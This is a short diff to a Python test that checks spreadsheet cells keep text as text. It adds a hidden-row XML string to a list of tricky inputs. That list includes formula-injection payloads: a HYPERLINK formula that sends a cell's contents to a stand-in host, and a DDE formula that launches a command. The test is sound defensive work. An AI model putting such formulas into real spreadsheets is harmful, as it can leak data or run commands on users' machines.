@@ -141,7 +141,7 @@ def test_the_summary_tells_what_changed_and_what_is_missing() -> None:
     "text",
     [
         "=1+1", '=HYPERLINK("http://e.example?"&A2)', "=cmd|'/C calc'!A0", "+44 116 000", "-1+1", "@SUM(1)", "==", "=",
-        "\t=1+1", "#REF!", "TRUE", "1E5", "30/3/17", "007", "_x0041_ <b>&amp;</b>", "  spaces  ", "a\nb", "𝕏 é 漢",
+        "\t=1+1", "#REF!", "TRUE", "1E5", "30/3/17", "007", "_x0041_ <b>&amp;</b>", "  spaces  ", "a\nb", '<row hidden="1"> <f> state="hidden"', "𝕏 é 漢",
     ],
 )  # fmt: skip
 def test_text_is_text_whatever_it_begins_with(text: str) -> None:
